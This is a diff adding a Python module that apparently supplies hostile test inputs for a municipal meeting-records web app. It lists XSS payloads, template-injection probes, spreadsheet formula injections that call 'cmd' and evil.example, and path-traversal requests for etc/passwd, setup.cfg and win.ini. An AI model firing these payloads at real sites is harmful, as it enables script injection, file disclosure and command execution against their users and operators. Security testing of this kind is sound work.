@@ -1,0 +1,112 @@
+"""What an attacker may put where text is expected, and what he may ask for."""
+
+from __future__ import annotations
+
+from itertools import product
+
+TAGS = ("script", "img", "svg", "iframe", "math", "details", "object", "style", "link", "base", "form", "template")
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<script>alert(1)//",
+    "</script><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</mark><img src=x onerror=alert(1)>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<!--<img src='--><img src=x onerror=alert(1)//'>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x onerror='alert(1)'",
+    "<img src=`x`onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert&#40;1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
+    "<math href=javascript:alert(1)>x</math>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<form action=//evil.example><input name=q></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<button form=sok formaction=javascript:alert(1)>x</button>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<isindex type=image src=1 onerror=alert(1)>",
+    "<x onclick=alert(1)>x</x>",
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '" autofocus onfocus=alert(1) x="',
+    '"/><svg onload=alert(1)>',
+    "` onmouseover=alert(1) `",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "data:text/html;base64,PHNjcmlwdD4=",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "\u2028alert(1)\u2029",
+    "{{7*7}}{{config}}{% for x in y %}",
+    "${7*7}#{7*7}<%= 7*7 %>",
+    '=HYPERLINK("//evil.example","x")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+46 onerror=alert(1)",
+    "\u202e<script>alert(1)</script>",
+    "\ufeff<script>alert(1)</script>",
+    "\x01\x0b<script>alert(1)</script>\x1f",
+    *(f"<{tag} x=1>alert(1)" for tag in TAGS),
+)
+
+_UP = ("..", "%2e%2e", "%2E.", ".%2e", "%252e%252e", "..;", "....", "%c0%ae%c0%ae", "..%00", "%uff0e%uff0e")
+_SLASH = ("/", "%2f", "%5c", "%252f")
+_WANTED = ("etc/passwd", "setup.cfg", "meetings/FILES.json", "index/CURRENT")
+_BELOW = ("static", "original", "arende", "mote", "items", "meetings", "person")
+
+TRAVERSALS = (
+    *(
+        f"/{base}/{slash.join((up, up, up, ''))}{wanted}{'.json' if base in ('items', 'meetings') else ''}"
+        for base, up, slash, wanted in product(_BELOW, _UP, _SLASH, _WANTED)
+    ),
+    "/original//etc/passwd",
+    "/original/%2fetc%2fpasswd",
+    "/original/file:%2f%2f%2fetc%2fpasswd",
+    "/static//etc/passwd",
+    "/static/%2fetc%2fpasswd",
+    "/static/C:%5cwindows%5cwin.ini",
+    "/static/.%00",
+    "/static/protokoll.css%00.html",
+    "/original/barnnamnden/2024-04-19/",
+    "/original/barnnamnden/2024-04-19%00",
+    "/original/barnnamnden/2024-04-19/../../../setup.cfg",
+    "/original/barnnamnden/./2024-04-19",
+    "/original/./barnnamnden/2024-04-19",
+    "/mote/barnnamnden%2f..%2fbarnnamnden/2024-04-19",
+    "/original/" + "a/" * 500,
+    "/arende/" + "a" * 5000,
+)
